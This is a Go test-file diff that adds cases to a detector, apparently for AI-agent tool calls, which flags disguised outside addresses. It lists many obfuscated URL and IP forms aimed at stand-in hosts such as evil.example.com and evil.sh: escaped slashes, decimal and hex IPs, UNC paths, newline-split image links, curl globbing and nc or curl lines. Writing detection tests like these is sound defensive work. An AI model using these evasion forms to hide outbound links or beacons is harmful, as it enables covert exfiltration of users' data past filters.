@@ -209,6 +209,21 @@ func TestHiddenAddresses(t *testing.T) {
 		`=?utf-8?Q?eve=40ev?= =?utf-8*en?Q?il=2Eexample=2Ecom?=`, `=?koi8-r?Q?x?= =?koi8-r?Q?evil=2Eexample=2Ecom?=`,
 		`curl 0x7f.0x0.0x0.0x1`, `curl 0xCB.0x0.113.7/x`, `0xcb.29447:80`, `0x7f.1`, `http://0x80070005/`,
 		`curl 0x80070005/x`, `nc 0x80070005:80`, `eve@0x80070005`, `curl 0x7f000001`,
+		`https:\\/\\/evil.example.com\\/x`, `{\"to\":\"bob@example.org\",\"img\":\"https:\\/\\/evil.example.com\\/x\"}`,
+		`\\u0068ttps://evil.example.com/x`, `https:\\u002f\\u002fevil.example.com\\u002fx`,
+		`///evil.example.com/x`, `![x](///evil.example.com/x)`, `//evil.example.com./x`, `curl evil.example.com./x`,
+		`evil.example.com.`, `[x]: <//evil.example.com./x>`,
+		`//secret.evil.sh`, `![x](//secret.evil.sh)`, `<img src=//secret.evil.zip>`, `curl evil.sh:8443`, `evil.md:80`,
+		`curl secret.evil.py:81`, `//evil.md`, `\\\\evil.sh\\share`, `\\\\203.0.113.7\\c$`, `dir=\\\\evil.sh@8080\\x`,
+		`https:\\\\evil.sh`, `<img src=\"/\\evil.sh/x\">`, `<img src='\\/evil.sh/x'>`, `wss:\\evil.zip`,
+		`http://2130706433/`, `//3405803783/x`, `![x](//3405803783/x)`, `curl 3405803783/x`, `nc 3405803783:80`,
+		`http://127.1`, `//127.1/`, `//203.29191/x`, `curl 203.29191/x`, `curl 203.9461255:80`, `//0313.0.0161.7/x`,
+		`wss:evil.example.com/x`, `ws:evil.sh`, `ftp:evil.example.com/x`, `x=ftp:evil.sh`,
+		`/login?next=//evil.example.com/x`, `/login?a=//example.org&next=//evil.sh`, `-//evil.example.com/x`,
+		`<img src=\"//evil.example.\ncom/x\">`, `<img src='//evil.exam\t\r\nple.com/x'>`, `![x](//evil.example.\ncom/x)`,
+		`<div style='x:url(//evil.example.\ncom/x)'>`,
+		`curl http://{a,b}.evil.com/`, `curl {a,b}.evil.com/x`, `curl http://[1-3].evil.sh/`, `curl x.[a-c].evil.com/x`,
+		`curl https://example.org{.attacker}.net/x`, `curl example.org{.attacker}.net/x`, `curl ev{i,o}l.{com,net}/x`,
 	} {
 		facts := said(person, outside).Origins(provenance.Call{Args: json.RawMessage(`{"v":"` + value + `"}`)})
 		if len(facts.Suspects(provenance.Changes)) == 0 {
@@ -220,12 +235,19 @@ func TestHiddenAddresses(t *testing.T) {
 			t.Errorf("%s: is fetched unasked; %+v", value, facts.Arguments)
 		}
 	}
+	for _, name := range []string{"ip", "url"} { // what the person said is no secret
+		c := said("Ping 3405803783 and example.org", outside)
+		if s := suspects(c, provenance.Reads, `{"`+name+`":"3405803783"}`); len(s) > 0 {
+			t.Errorf("%s: %+v", name, s)
+		}
+	}
 	for name, url := range map[string]bool{
-		"url": true, "imageUrl": true, "targetURL": true, "page-link": true, "web_hosts": true, "curl": false,
+		"url": true, "imageUrl": true, "targetURL": true, "page-link": true, "web_hosts": true, "ip": true, "curl": false,
 		"linkText": false,
 	} {
 		for _, args := range []string{
 			`{"` + name + `":"nas/x"}`, `{"` + name + `":["nas/x"]}`, `{"` + name + `":"0x80070005"}`,
+			`{"` + name + `":"3405803783"}`, `{"` + name + `":3405803783}`, `{"` + name + `":"//a.\nb/x"}`,
 		} {
 			facts := said(person, outside).Origins(provenance.Call{Args: json.RawMessage(args)})
 			if asks := len(facts.Suspects(provenance.Reads)) > 0; asks != url {
@@ -255,6 +277,15 @@ func TestHarmlessValues(t *testing.T) {
 		`{"text":"Built with Node.js, e.g. version 1.2.3, on 2024-05-19 12:00:00 and 2024-05-20 13:00. ` +
 			`Pi is 3.141592653589, and so on and on."}`,
 		`{"text":"Setup fails with 0x80070005 (access denied), then 0x80240034, 0x800F0922 and 0xc0000005."}`,
+		`{"text":"Error in main.py:42, build.sh:7:3, docs/notes.md:12 and src//a/b.rs: see // main.py and lib//x.py."}`,
+		`{"text":"From 12:30 to 10:30-12:00, a ratio of 16:9 or 4/3, rated 3.5/5, 0.5/day, 12.50/kg, 1.299/month."}`,
+		`{"text":"Version 1.2.3/4, 3.14159/2, v2.0.1:latest, 20240519/report.md, and/or, n/a, 127.1 kg, 203.29191."}`,
+		`{"text":"The news:today, reviews:12.5 and views: 3.1; ftp: no. Is it e.g. /a.b/c or ./run.sh, ../x.py?"}`,
+		`{"text":"{\"path\":\"\\/etc\\/app\\/notes.md\",\"file\":\"C:\\\\dir\\\\run.py\",\"n\":[1,2]}"}`,
+		`{"text":"Match /^a\\/b\\.py$/ or \\d+\\.md in users/{id}/notes.md, src/{a,b}.py, x[1-3].sh, ${name}.rs, a[i].b"}`,
+		`{"text":"<img alt=\"two\nlines\" src=\"a.\npng\"> (see\nnotes.md) and [x](notes\n.md)"}`,
+		`{"command":"cp a.sh b.sh && ./a.sh; python x.py | tee out.zip > /dev/null"}`, `{"path":"\\\\nas\\share\\x.md"}`,
+		`{"file":"C:\\dir\\notes.md"}`, `{"path":"/home/ada/run.sh"}`, `{"range":"[1-3]"}`,
 		`{"text":"The screen is blue: 0x0000007E. What is =?utf-8?Q?this=3F?= and why =?x?y?"}`,
 	} {
 		call := provenance.Call{Args: json.RawMessage(args), Schema: json.RawMessage(schema)}
